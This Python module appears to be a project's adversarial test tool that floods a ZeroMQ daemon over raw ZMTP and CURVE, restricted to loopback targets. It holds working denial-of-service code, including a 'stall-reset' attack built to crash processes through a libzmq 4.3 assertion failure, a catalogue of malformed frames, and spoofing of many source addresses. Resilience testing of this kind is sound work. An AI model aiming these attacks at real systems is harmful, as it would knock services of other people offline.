"""A stranger's flood, as a program of its own: what the adversarial tests and the attack
benchmark aim at a daemon. It speaks ZeroMQ from its own process, with its own keys, and prints
one JSON line: how many messages it sent.

    python -m tools.attack --target tcp://127.0.0.1:7000 --kind garbage --seconds 5
    python -m tools.attack --target ... --kind strangers --connections 50 --rate 10000 --seconds 5
    python -m tools.attack --target ... --target-key HEX ...   (over CURVE, as a node would connect)

Kinds:
- garbage: random bytes of mixed sizes (up to 64 KiB unless `--sizes` says otherwise), one in
  eight as a multipart message, as fast as the connections take them;
- strangers: validly signed HELLO then PING frames, a fresh key per connection, each connection
  re-opened with a new key once it has sent `--frames-per-key`;
- unfinished: speaking ZMTP itself over a plain TCP socket (tools/zmtp.py; libzmq sends a
  multipart message only once it is whole), 60 KB parts of one multipart message whose last part
  never comes, until `--bytes` are sent, `--seconds` pass or the target cuts the connection;
- stall-reset: raw ZMTP as well, against libzmq 4.3's `Assertion failed: !_io_error`: one
  connection floods small messages so that the target reads no faster than its budget; others,
  one after another, each send a few more messages than the target's queue holds (`--frames`)
  and a ZMTP PING command in the same segment, then reset the connection. The engine stops
  reading at the full queue, the reset marks it broken, and once the target reads the queue the
  engine decodes the PING and answers it on the broken connection: libzmq aborts the process.
  It goes on for `--seconds` whatever happens to the target, counting the connections it lost
  (`lost`: the target's process aborted) and those refused (`refused`: nothing listening, or
  the target refused this source). With `--sources N` each connection comes from the next of N
  loopback addresses, 250 to a /24 (127.1.0.1 ... 127.1.7.250 for 2,000): one attacker with
  many source addresses (Linux answers on all of 127.0.0.0/8);
- idle: raw ZMTP, `--connections` handshakes completed (with `--sources`, from that many
  addresses in turn) and then silence, each one refused or shut by the target opened anew, for
  `--seconds`; the JSON line counts the handshakes completed and refused, the most held at
  once, those the target shut and when it shut the first;
- malformed: raw ZMTP, a catalogue of what libzmq itself never sends (bad greeting bytes, a wrong
  version or mechanism, ERROR and READY with broken metadata in the handshake, a handshake never
  finished, CURVE's HELLO with a bad box and INITIATE with a bad vouch; after the handshake
  oversized, negative and huge LONG lengths, a truncated frame, reserved flag bits, a command name
  past its body, PING without TTL or with a 255-byte context, unknown commands, SUBSCRIBE and
  CANCEL, ERROR, a MESSAGE box that does not open), each case on a fresh connection then reset
  or closed, cycled for `--seconds`; the JSON line counts each case.

With `--target-key`, the raw kinds run over CURVE as well, with a fresh client key per
connection: a node's public socket completes the handshake with any key.

Only loopback targets are accepted: this is a test tool.
"""

from __future__ import annotations

import argparse
import itertools
import json
import os
import random
import select
import socket as pysocket
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path

import zmq

from protocol import PROTOCOL_VERSION, Encoder, Hello, Identity, Ping
from protocol.curve import curve_public_from_ed25519
from tools import zmtp

_NETWORK_DEFAULT = "test"


def _loopback(target: str) -> str:
    host = target.removeprefix("tcp://").rsplit(":", 1)[0]
    if not (host.startswith("127.") or host in ("localhost", "[::1]")):
        raise SystemExit(f"attack: refusing a non-loopback target {target!r}")
    return target


GARBAGE_SIZES = (16, 200, 2_000, 20_000, 65_536)
_NOISE = os.urandom(max(GARBAGE_SIZES))


def _garbage(rng: random.Random, sizes: tuple[int, ...]) -> list[bytes]:
    size = rng.choice(sizes)
    payload = _NOISE[:size] if size <= len(_NOISE) else bytes(size)
    return [payload, b"tail"] if rng.random() < 0.125 else [payload]


def _stranger_frames(identity: Identity, network: str, count: int) -> list[bytes]:
    encoder = Encoder(identity, network)
    now = time.time_ns() // 1000
    hello = Hello(address="tcp://127.0.0.1:9", capabilities=(), dataset_size=0, protocol_versions=(PROTOCOL_VERSION,))
    frames = [encoder.encode(hello, seq=1, timestamp_us=now, round=0)]
    frames += [encoder.encode(Ping(nonce=i), seq=2 + i, timestamp_us=now, round=0) for i in range(count - 1)]
    return frames


# The CURVE secret every CURVE connection of this run is made with (`--as-key`: an admitted peer's
# own, derived from its node key as a node's is); None: a fresh key per connection.
_CLIENT_SECRET: bytes | None = None
# `--sources`: the source addresses connections take in turn; None: the system's choice.
_SOURCES: itertools.cycle | None = None
SOURCES_PER_PREFIX = 250


def loopback_sources(count: int, first: str = "127.1.0.1") -> list[str]:
    """`count` loopback addresses from `first` on, SOURCES_PER_PREFIX to a /24."""
    a, b, c, d = (int(part) for part in first.split("."))
    return [f"{a}.{b}.{c + i // SOURCES_PER_PREFIX}.{d + i % SOURCES_PER_PREFIX}" for i in range(count)]


def _zmtp_connection(target: str, target_key: bytes | None, timeout: float = 5.0) -> zmtp.Connection:
    """A raw ZMTP connection whose handshake is over, as a DEALER: over CURVE with a fresh client
    key (or `--as-key`'s) when the target's Ed25519 key is given (any key completes it on a
    node's public socket; only admitted peers' on its peers' socket)."""
    server_key = curve_public_from_ed25519(target_key) if target_key is not None else None
    source = None if _SOURCES is None else next(_SOURCES)
    return zmtp.connect(target, server_key=server_key, secret_key=_CLIENT_SECRET, timeout=timeout, source=source)


def unfinished(target: str, max_bytes: int, seconds: float, target_key: bytes | None = None) -> dict:
    """One multipart message, never finished (see the module's docstring)."""
    part = _NOISE[:60_000]
    sent, parts, reset, started = 0, 0, False, time.perf_counter()
    try:
        connection = _zmtp_connection(target, target_key)
    except OSError:  # refused (nothing listening, or this client is refused in the handshake)
        return {
            "sent": 0,
            "bytes": 0,
            "reset": True,
            "refused": True,
            "seconds": round(time.perf_counter() - started, 3),
        }
    try:
        while sent < max_bytes and time.perf_counter() - started < seconds:
            data = connection.frame_bytes(part, zmtp.MORE)
            connection.send_raw(data)
            sent += len(data)
            parts += 1
        time.sleep(max(0.0, seconds - (time.perf_counter() - started)))  # hold the parts there
        connection.send_raw(connection.frame_bytes(part, zmtp.MORE))  # still open? (a reset shows here at the latest)
    except OSError:
        reset = True
    finally:
        connection.close()
    return {"sent": parts, "bytes": sent, "reset": reset, "seconds": round(time.perf_counter() - started, 3)}


def idle(target: str, connections: int, seconds: float, target_key: bytes | None = None) -> dict:
    """Handshakes then silence (see the module's docstring): `connections` held open, each one
    the target shuts or refuses opened anew, until `seconds` pass."""
    held: dict[int, zmtp.Connection] = {}
    opened, refused, shut_after, most = 0, 0, [], 0
    poller = select.poll()
    started = time.perf_counter()
    while (left := seconds - (time.perf_counter() - started)) > 0:
        if len(held) < connections:
            try:
                connection = _zmtp_connection(target, target_key, timeout=min(5.0, left))
            except OSError:  # refused in the handshake (ZmtpError), or nothing listening
                refused += 1
                time.sleep(0.001 if refused % 100 else 0.1)  # not a hot loop where all are refused
            else:
                connection.socket.setblocking(False)
                held[connection.socket.fileno()] = connection
                poller.register(connection.socket.fileno(), select.POLLIN)
                opened += 1
                most = max(most, len(held))
        for fd, _ in poller.poll(0 if len(held) < connections else min(left, 0.5) * 1000):
            try:
                ended = held[fd].socket.recv(4096) == b""
            except BlockingIOError:
                continue
            except OSError:
                ended = True
            if ended:  # shut by the target (a frame from it is left unread: the stranger is silent)
                poller.unregister(fd)
                held.pop(fd).close()
                shut_after.append(time.perf_counter() - started)
    for connection in held.values():
        connection.close()
    return {
        "opened": opened,
        "refused": refused,
        "most_held": most,
        "shut": len(shut_after),
        "first_shut_s": round(min(shut_after), 3) if shut_after else None,
        "seconds": round(time.perf_counter() - started, 3),
    }


def stall_reset(target: str, frames: int, seconds: float, target_key: bytes | None = None, pause: float = 0.0) -> dict:
    """See the module's docstring; `frames`: messages before the PING on each resetting
    connection. Goes on for `seconds` whatever the target does: a connection lost or refused
    (the target's process aborted, or is starting again, or refused this client) is counted,
    and the attack starts over on a new one `pause` seconds later, as an attacker would against
    a target that restarts."""
    started, resets, lost, refused = time.perf_counter(), 0, 0, 0
    while time.perf_counter() - started < seconds:
        try:
            resets += _stall_reset_until_lost(target, frames, started + seconds, target_key)
        except OSError:
            refused += 1  # nothing listening (the target is down, or starting again), or refused
            time.sleep(0.01)
            continue
        lost += time.perf_counter() - started < seconds
        time.sleep(pause)
    gone = False
    try:
        _zmtp_connection(target, target_key).close()
    except OSError:
        gone = True
    return {
        "sent": resets,
        "lost": lost,
        "refused": refused,
        "target_gone": gone,
        "seconds": round(time.perf_counter() - started, 3),
    }


def _stall_reset_until_lost(target: str, frames: int, until: float, target_key: bytes | None) -> int:
    """One flooding connection and resetting ones beside it, until `until` or until one breaks
    (OSError from the first connection; afterwards, returns the resets so far)."""
    message = _NOISE[:40]
    flooding, resets = _zmtp_connection(target, target_key), 0
    flooding.socket.setblocking(False)
    backlog = b""  # what the flooding connection has made and not sent: frames are never cut short
    try:
        while time.perf_counter() < until:
            backlog = backlog or b"".join(flooding.message_bytes(message) for _ in range(100))
            try:
                backlog = backlog[flooding.socket.send(backlog) :]
            except BlockingIOError:
                pass  # the target reads no faster than its budget: its queue and ours are full
            victim = _zmtp_connection(target, target_key)
            segment = b"".join(victim.message_bytes(message) for _ in range(frames))
            try:
                victim.send_raw(segment + victim.command_bytes(zmtp.ping(ttl=10, context=b"ab")))
            except OSError:
                victim.close()
                raise
            time.sleep(0.001 * (1 + resets % 4))  # the target's engine reads it, its reader not yet
            victim.reset()
            resets += 1
            time.sleep(0.05)
    except OSError:
        if not resets:
            raise
    finally:
        flooding.reset()
    return resets


# --kind malformed: each case opens a connection of its own, sends its bytes and gives back the
# TCP socket, which `malformed` resets or closes. The cases that complete a handshake first speak
# the target's mechanism (CURVE with a fresh client key when the target's key is given);
# CURVE_ONLY need it. Over CURVE, "after the handshake" means inside MESSAGE boxes, except where
# a case writes the outer frame itself (the lengths, the truncated frame, the bad box).
_CASE_TIMEOUT = 2.0
_BROKEN_METADATA = b"\x0bSocket-Type" + struct.pack(">I", 1000) + b"DEALER"  # a value past the end
CURVE_ONLY = {"curve-hello-bad-box", "initiate-bad-vouch", "message-bad-box"}


def _mechanism(server_key: bytes | None) -> bytes:
    return b"NULL" if server_key is None else b"CURVE"


def _before_handshake(make: Callable[[bytes | None], bytes]) -> Callable[[str, bytes | None], pysocket.socket]:
    """A case that writes `make(server_key)` on a fresh TCP connection and reads nothing."""

    def case(target: str, server_key: bytes | None) -> pysocket.socket:
        connection = zmtp.open_socket(target, _CASE_TIMEOUT)
        try:
            connection.sendall(make(server_key))
        except BaseException:
            connection.close()
            raise
        return connection

    return case


def _after_handshake(send: Callable[[zmtp.Connection], None]) -> Callable[[str, bytes | None], pysocket.socket]:
    """A case that completes the handshake, then has `send` write on the connection."""

    def case(target: str, server_key: bytes | None) -> pysocket.socket:
        connection = zmtp.connect(target, server_key=server_key, timeout=_CASE_TIMEOUT)
        try:
            send(connection)
        except BaseException:
            connection.close()
            raise
        return connection.socket

    return case


def _curve_initiate(target: str, server_key: bytes, properties: bytes, vouch_key: bytes | None) -> pysocket.socket:
    """CURVE's handshake as far as INITIATE, with these `properties` and `vouch_key` (see
    zmtp.CurveClient.initiate); the server's answer is not read."""
    connection, curve = zmtp.open_socket(target, _CASE_TIMEOUT), zmtp.CurveClient(server_key)
    try:
        connection.sendall(zmtp.greeting(b"CURVE") + zmtp.frame(curve.hello(), zmtp.COMMAND))
        zmtp.expect_greeting(connection, b"CURVE")
        welcome = zmtp.expect_command(connection, b"WELCOME")
        connection.sendall(zmtp.frame(curve.initiate(welcome, properties, vouch_key), zmtp.COMMAND))
    except BaseException:
        connection.close()
        raise
    return connection


def _ready_with_broken_metadata(target: str, server_key: bytes | None) -> pysocket.socket:
    """NULL's READY, or CURVE's INITIATE, with a property whose value runs past the end."""
    if server_key is not None:
        return _curve_initiate(target, server_key, _BROKEN_METADATA, None)
    ready = zmtp.frame(zmtp.command(b"READY", _BROKEN_METADATA), zmtp.COMMAND)
    return _before_handshake(lambda _: zmtp.greeting(b"NULL") + ready)(target, server_key)


def _long_header(size: int) -> bytes:
    return bytes((zmtp.LONG,)) + struct.pack(">Q", size)


def _sealed_then_cut(connection: zmtp.Connection) -> None:
    """A frame of 100 000 bytes (over CURVE, its MESSAGE), sent to its middle."""
    data = connection.frame_bytes(_NOISE[:50_000] * 2)
    connection.send_raw(data[: len(data) // 2])


def _unfinished_handshake(server_key: bytes | None) -> bytes:
    """The greeting, and over CURVE the HELLO (the server has made its WELCOME), then nothing."""
    if server_key is None:
        return zmtp.greeting(b"NULL")
    return zmtp.greeting(b"CURVE") + zmtp.frame(zmtp.CurveClient(server_key).hello(), zmtp.COMMAND)


MALFORMED: dict[str, Callable[[str, bytes | None], pysocket.socket]] = {
    "bad-greeting": _before_handshake(lambda _: b"\xfe" + _NOISE[:63]),  # no 0xff: ZMTP 1.0, then noise
    # revision 1 is ZMTP 2.0 (no mechanism: libzmq refuses it where ZAP is on), then noise
    "wrong-version": _before_handshake(lambda key: zmtp.greeting(_mechanism(key), version=(1, 0)) + _NOISE[:64]),
    "wrong-mechanism": _before_handshake(lambda _: zmtp.greeting(b"X-BOGUS") + zmtp.frame(b"\x05READY", zmtp.COMMAND)),
    "error-in-handshake": _before_handshake(
        lambda key: zmtp.greeting(_mechanism(key)) + zmtp.frame(zmtp.command(b"ERROR", b"\x03bye"), zmtp.COMMAND)
    ),
    "ready-broken-metadata": _ready_with_broken_metadata,
    "unfinished-handshake": _before_handshake(_unfinished_handshake),
    "curve-hello-bad-box": _before_handshake(
        lambda key: zmtp.greeting(b"CURVE") + zmtp.frame(zmtp.CurveClient(key).hello(box=_NOISE[:80]), zmtp.COMMAND)
    ),
    "initiate-bad-vouch": lambda target, key: _curve_initiate(
        target, key, zmtp.metadata({b"Socket-Type": b"DEALER"}), vouch_key=os.urandom(32)
    ),
    # LONG lengths: 256 MiB (past any node's ZMQ_MAXMSGSIZE), 2^64 - 1 (-1 as a signed length),
    # 2^62 (no allocation holds it); each followed by a little of its body
    "oversized-length": _after_handshake(lambda c: c.send_raw(_long_header(1 << 28) + _NOISE)),
    "negative-length": _after_handshake(lambda c: c.send_raw(_long_header(2**64 - 1) + _NOISE[:1000])),
    "huge-long-frame": _after_handshake(lambda c: c.send_raw(_long_header(1 << 62) + _NOISE[:1000])),
    "truncated-frame": _after_handshake(_sealed_then_cut),
    # the bits above COMMAND (over CURVE in the box's flags byte, where libzmq masks them)
    "reserved-flags": _after_handshake(lambda c: c.send_raw(c.frame_bytes(b"r", 0xF9) + c.frame_bytes(b"s", 0xF0))),
    "command-name-past-body": _after_handshake(lambda c: c.send_command(b"\x20PING")),
    # libzmq 4.3.5 reads a TTL there anyway and answers with 16 bytes of stale buffer as context
    "ping-without-ttl": _after_handshake(lambda c: c.send_command(b"\x04PING")),
    "ping-255-byte-context": _after_handshake(lambda c: c.send_command(zmtp.ping(ttl=10, context=_NOISE[:255]))),
    "unknown-command": _after_handshake(lambda c: c.send_command(zmtp.command(b"X-UNKNOWN", _NOISE[:64]))),
    "subscribe-cancel": _after_handshake(
        lambda c: c.send_raw(
            c.command_bytes(zmtp.command(b"SUBSCRIBE", b"t")) + c.command_bytes(zmtp.command(b"CANCEL", b"t"))
        )
    ),
    "error-command": _after_handshake(lambda c: c.send_command(zmtp.command(b"ERROR", b"\x03bye"))),
    "message-bad-box": _after_handshake(
        lambda c: c.send_raw(zmtp.frame(b"\x07MESSAGE" + struct.pack(">Q", 1 << 40) + _NOISE[:48]))
    ),
}


def malformed(target: str, seconds: float, target_key: bytes | None = None) -> dict:
    """Every case of MALFORMED in turn, each on a fresh connection then reset (even rounds) or
    closed (odd ones), until `seconds` pass or the target refuses connections. `cut`: the cases
    whose handshake the target refused or whose connection it cut before they were sent."""
    server_key = curve_public_from_ed25519(target_key) if target_key is not None else None
    names = [name for name in MALFORMED if server_key is not None or name not in CURVE_ONLY]
    sent, cut = dict.fromkeys(names, 0), dict.fromkeys(names, 0)
    rounds, gone, started = 0, False, time.perf_counter()
    while not gone and time.perf_counter() - started < seconds:
        for name in names:
            try:
                connection = MALFORMED[name](target, server_key)
            except ConnectionRefusedError:
                gone = True
                break
            except OSError:
                cut[name] += 1
                continue
            if rounds % 2 == 0:
                connection.setsockopt(pysocket.SOL_SOCKET, pysocket.SO_LINGER, struct.pack("ii", 1, 0))
            connection.close()
            sent[name] += 1
        rounds += 1
    seconds_taken = round(time.perf_counter() - started, 3)
    return {"sent": sum(sent.values()), "cases": sent, "cut": cut, "target_gone": gone, "seconds": seconds_taken}


def run(
    target: str,
    kind: str,
    connections: int,
    rate: float,
    seconds: float,
    frames_per_key: int,
    network: str,
    sizes: tuple[int, ...] = GARBAGE_SIZES,
    target_key: bytes | None = None,
):
    """`target_key`: the target's Ed25519 key, to connect over CURVE as a node would (each
    connection with the transport key of the identity that signs its frames)."""
    context = zmq.Context()
    rng = random.Random(0)

    def connect(identity: Identity) -> zmq.Socket:
        socket = context.socket(zmq.DEALER)
        socket.setsockopt(zmq.LINGER, 0)
        socket.setsockopt(zmq.SNDHWM, 10_000)
        socket.setsockopt(zmq.SNDTIMEO, 1000)  # a connection refused for good must not hang the tool
        if target_key is not None:
            secret, public = identity.curve_keypair()
            socket.setsockopt(zmq.CURVE_SECRETKEY, secret)
            socket.setsockopt(zmq.CURVE_PUBLICKEY, public)
            socket.setsockopt(zmq.CURVE_SERVERKEY, curve_public_from_ed25519(target_key))
        socket.connect(target)
        return socket

    identities = [Identity.generate() for _ in range(connections)]
    sockets = [connect(identity) for identity in identities]
    # Signed frames are made before the clock starts: the flood measures the target, not us.
    plans = [_stranger_frames(i, network, frames_per_key) for i in identities] if kind == "strangers" else []
    positions = [0] * connections
    time.sleep(0.2)  # let the connections come up
    sent, blocked, started = 0, 0, time.perf_counter()
    while (elapsed := time.perf_counter() - started) < seconds:
        if rate and sent > elapsed * rate:
            time.sleep(min(0.001, sent / rate - elapsed))
            continue
        i = (sent + blocked) % connections
        if kind == "strangers" and positions[i] == len(plans[i]):  # a fresh key on a fresh connection
            sockets[i].close(linger=0)
            identity = Identity.generate()
            sockets[i] = connect(identity)
            plans[i], positions[i] = _stranger_frames(identity, network, frames_per_key), 0
        try:
            if kind == "garbage":
                sockets[i].send_multipart(_garbage(rng, sizes))
            else:
                sockets[i].send(plans[i][positions[i]])
                positions[i] += 1
            sent += 1
        except zmq.Again:  # a second passed and its queue is still full: the target refused it
            blocked += 1
    for socket in sockets:
        socket.close(linger=1000)
    context.term()
    return {"sent": sent, "blocked": blocked, "seconds": round(time.perf_counter() - started, 3)}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m tools.attack", description=__doc__.split("\n")[0])
    parser.add_argument("--target", required=True, type=_loopback)
    kinds = ("garbage", "strangers", "unfinished", "stall-reset", "malformed", "idle")
    parser.add_argument("--kind", choices=kinds, required=True)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--rate", type=float, default=0.0, help="messages per second in all (0: as fast as possible)")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--frames-per-key", type=int, help="default: enough that each connection keeps one key")
    parser.add_argument("--frames", type=int, default=6, help="stall-reset: messages before the PING")
    parser.add_argument("--pause", type=float, default=0.0, help="stall-reset: seconds to wait after a lost connection")
    parser.add_argument(
        "--as-key",
        help="raw ZMTP over CURVE: connect with the transport key of this node key file (an admitted "
        "peer's, to reach the peers' socket) instead of a fresh key per connection",
    )
    parser.add_argument(
        "--sources", type=int, default=0, help="raw kinds: connect from this many loopback addresses in turn"
    )
    parser.add_argument("--network", default=_NETWORK_DEFAULT)
    parser.add_argument("--sizes", type=int, nargs="+", default=GARBAGE_SIZES, help="garbage message sizes")
    parser.add_argument("--bytes", type=int, default=200 << 20, help="unfinished: bytes of parts to send")
    parser.add_argument(
        "--target-key", type=bytes.fromhex, help="the target's public key (hex): connect over CURVE, as a node would"
    )
    args = parser.parse_args(argv)
    if args.sources:
        global _SOURCES
        _SOURCES = itertools.cycle(loopback_sources(args.sources))
    if args.as_key:
        global _CLIENT_SECRET
        _CLIENT_SECRET = Identity.from_pem(Path(args.as_key).read_bytes()).curve_keypair()[0]
    raw = {
        "unfinished": lambda: unfinished(args.target, args.bytes, args.seconds, args.target_key),
        "stall-reset": lambda: stall_reset(args.target, args.frames, args.seconds, args.target_key, args.pause),
        "idle": lambda: idle(args.target, args.connections, args.seconds, args.target_key),
        "malformed": lambda: malformed(args.target, args.seconds, args.target_key),
    }
    if args.kind in raw:
        print(json.dumps(raw[args.kind]()), flush=True)
        return 0
    if args.frames_per_key is None:
        planned = args.rate * args.seconds if args.rate else 20_000
        args.frames_per_key = int(planned // max(1, args.connections)) + 2
    result = run(
        args.target,
        args.kind,
        args.connections,
        args.rate,
        args.seconds,
        args.frames_per_key,
        args.network,
        tuple(args.sizes),
        args.target_key,
    )
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
